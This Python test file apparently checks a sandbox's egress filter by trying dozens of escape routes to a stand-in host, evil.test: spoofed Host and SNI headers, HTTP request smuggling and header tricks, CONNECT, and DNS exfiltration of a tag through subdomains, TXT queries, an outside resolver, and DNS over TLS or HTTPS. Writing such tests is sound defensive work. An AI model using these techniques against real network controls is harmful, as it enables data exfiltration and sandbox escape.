"""Ways out of a sandbox that may reach good.test and nothing else, or nothing at all.

The argument names the way. What arrives outside carries the attempt's tag.
"""

from __future__ import annotations

import socket

from inside import ARGUMENTS, TAG
from talk import DNS, EVIL, GOOD, WAYS, ask, get, http, question, talk, tls, way


@way
def another_address() -> None:
    http(EVIL, "evil.test")


@way
def another_address_by_tls() -> None:
    tls(EVIL, "evil.test", "evil.test")


@way
def another_address_on_another_port() -> None:
    talk(EVIL, 7000, TAG + "\r\n\r\n")


@way
def host_says_an_allowed_name() -> None:
    ask("good.test")
    http(EVIL, "good.test")


@way
def sni_says_an_allowed_name() -> None:
    ask("good.test")
    tls(EVIL, "good.test", "evil.test")


@way
def a_neighbour_on_an_allowed_address() -> None:
    ask("good.test")
    http(GOOD, "shared.test")


@way
def a_neighbour_on_an_allowed_address_by_sni() -> None:
    ask("good.test")
    tls(GOOD, "shared.test", "shared.test")


@way
def a_neighbour_on_another_port() -> None:
    ask("good.test")
    http(GOOD, "shared.test", port=7000)


@way
def tls_without_a_name() -> None:
    ask("good.test")
    tls(GOOD, None, "shared.test")


@way
def http_without_a_name() -> None:
    ask("good.test")
    talk(GOOD, 80, f"GET /{TAG} HTTP/1.0\r\n\r\n")


@way
def bytes_that_are_no_http_on_port_80() -> None:
    ask("good.test")
    talk(GOOD, 80, chr(0) + TAG + "\r\n\r\n")


@way
def a_second_request_for_a_neighbour() -> None:
    ask("good.test")
    talk(GOOD, 80, get("good.test", "/"), get("shared.test"))


@way
def a_request_behind_another_in_one_piece() -> None:
    ask("good.test")
    talk(GOOD, 80, get("good.test", "/") + get("shared.test"))


@way
def an_absolute_target() -> None:
    ask("good.test")
    talk(GOOD, 80, get("good.test", f"http://shared.test/{TAG}"))


@way
def connect() -> None:
    ask("good.test")
    talk(GOOD, 80, f"CONNECT /{TAG} HTTP/1.1\r\nHost: good.test\r\n\r\n")


@way
def two_hosts() -> None:
    ask("good.test")
    talk(GOOD, 80, get("good.test", more="Host: shared.test\r\n"))


@way
def a_blank_before_the_colon() -> None:
    ask("good.test")
    talk(GOOD, 80, f"GET /{TAG} HTTP/1.1\r\nHost : shared.test\r\n\r\n")


@way
def a_folded_header() -> None:
    ask("good.test")
    talk(GOOD, 80, get("good.test", more="A: b\r\n Host: shared.test\r\n"))


@way
def a_bare_line_feed() -> None:
    ask("good.test")
    talk(GOOD, 80, get("good.test", more="A: b\nHost: shared.test\r\n"))


@way
def a_length_and_chunks() -> None:
    ask("good.test")
    b = get("shared.test")
    talk(GOOD, 80, get("good.test", "/", more="Content-Length: 5\r\nTransfer-Encoding: chunked\r\n") + "0\r\n\r\n" + b)


@way
def two_lengths() -> None:
    ask("good.test")
    b = get("shared.test")
    talk(GOOD, 80, get("good.test", "/", more=f"Content-Length: 0\r\nContent-Length: {len(b)}\r\n") + b)


@way
def an_upgrade_that_the_server_refuses() -> None:
    ask("good.test")
    talk(GOOD, 80, get("good.test", "/", more="Connection: Upgrade\r\nUpgrade: websocket\r\n"), get("shared.test"))


@way
def http_2_without_tls() -> None:
    ask("good.test")
    talk(GOOD, 80, "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + TAG + "\r\n\r\n")


@way
def a_name_below_another_domain_dns_exfiltration() -> None:
    ask(TAG + ".evil.test")


@way
def dns_exfiltration_to_another_resolver() -> None:
    ask(TAG + ".evil.test", server="8.8.8.8")


@way
def dns_exfiltration_over_tcp() -> None:
    ask(TAG + ".evil.test", stream=True)


@way
def dns_exfiltration_by_a_long_name() -> None:
    ask(".".join([TAG] + ["a" * 60] * 3 + ["evil.test"]))


@way
def dns_exfiltration_by_txt() -> None:
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(3)
    s.sendto(question(TAG + ".evil.test", 16), (DNS, 53))
    s.recv(99)


@way
def dns_exfiltration_in_capitals() -> None:
    ask(TAG + ".EVIL.test")


@way
def dns_exfiltration_below_an_allowed_name() -> None:
    ask(TAG + ".good.test")


@way
def a_name_that_only_ends_alike() -> None:
    ask(TAG + "-good.test")


@way
def a_name_that_only_begins_alike() -> None:
    ask(TAG + ".good.test.evil.test")


@way
def the_systems_resolver() -> None:
    socket.getaddrinfo(TAG + ".evil.test", 80)


@way
def dns_over_tls_by_address() -> None:
    talk(EVIL, 853, TAG + "\r\n\r\n")


@way
def dns_over_https_by_address() -> None:
    tls(EVIL, "dns.google", "dns.google")


@way
def dns_over_https_with_an_allowed_sni() -> None:
    ask("good.test")
    tls(EVIL, "good.test", "good.test")


@way
def an_allowed_name_on_an_address_that_dns_never_gave() -> None:
    tls(EVIL, "good.test", "good.test")


@way
def denied_by_denyout() -> None:
    http(EVIL, "evil.test")


@way
def denied_by_denyout_by_tls() -> None:
    tls(EVIL, "evil.test", "evil.test")


@way
def no_internet_access() -> None:
    http(GOOD, "good.test")


@way
def no_internet_access_by_tls() -> None:
    tls(GOOD, "good.test", "good.test")


@way
def no_internet_access_dns() -> None:
    ask(TAG + ".evil.test")


WAYS[ARGUMENTS[0]]()
